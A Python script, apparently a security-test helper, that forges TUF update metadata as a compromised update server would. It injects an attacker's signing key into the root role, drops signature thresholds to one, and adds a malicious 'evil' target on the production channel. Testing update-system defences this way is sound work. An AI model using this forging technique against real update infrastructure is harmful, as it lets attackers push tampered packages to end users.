#!/usr/bin/env python3
"""Forges TUF metadata as a compromised airlockd would, signed with the attacker's own ed25519 key
(openssl pkeyutl; canonical JSON as TUF's securesystemslib writes it for these ASCII documents).

  forge.py root REAL_ROOT.json ATTACKER_KEY.pem VERSION OUT
      the real root's contents plus the attacker's key as a root and targets key (the developer's
      key ids stay listed, thresholds 1), at VERSION, signed by the attacker only.
  forge.py targets REAL_TARGETS.json ATTACKER_KEY.pem TARGET_NAME SHA256 LENGTH OUT
      the real targets plus an entry TARGET_NAME for a blob of the attacker's, same version, signed
      by the attacker only.
"""
import hashlib
import json
import subprocess
import sys
import tempfile


def canonical(obj):
    return json.dumps(obj, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def public_hex(pem):
    der = subprocess.run(["openssl", "pkey", "-in", pem, "-pubout", "-outform", "DER"],
                         check=True, capture_output=True).stdout
    return der[-32:].hex()


def key_obj(pem):
    return {"keytype": "ed25519", "keyval": {"public": public_hex(pem)}, "scheme": "ed25519"}


def key_id(obj):
    return hashlib.sha256(canonical(obj)).hexdigest()


def sign(pem, signed):
    with tempfile.NamedTemporaryFile() as msg:
        msg.write(canonical(signed))
        msg.flush()
        sig = subprocess.run(["openssl", "pkeyutl", "-sign", "-rawin", "-inkey", pem, "-in", msg.name],
                             check=True, capture_output=True).stdout
    kid = key_id(key_obj(pem))
    return {"signed": signed, "signatures": [{"keyid": kid, "sig": sig.hex()}]}


def main():
    kind = sys.argv[1]
    real = json.load(open(sys.argv[2]))["signed"]
    pem = sys.argv[3]
    kobj = key_obj(pem)
    kid = key_id(kobj)
    if kind == "root":
        real["keys"][kid] = kobj
        for role in ("root", "targets"):
            real["roles"][role]["keyids"] = sorted(set(real["roles"][role]["keyids"]) | {kid})
            real["roles"][role]["threshold"] = 1
        real["version"] = int(sys.argv[4])
        out = sys.argv[5]
    else:
        name, sha, length = sys.argv[4], sys.argv[5], int(sys.argv[6])
        real["targets"][name] = {"length": length, "hashes": {"sha256": sha},
                                 "custom": {"app_id": "evil", "version": "9.9.9",
                                            "channels": ["production"]}}
        out = sys.argv[7]
    with open(out, "w") as f:
        json.dump(sign(pem, real), f)


main()
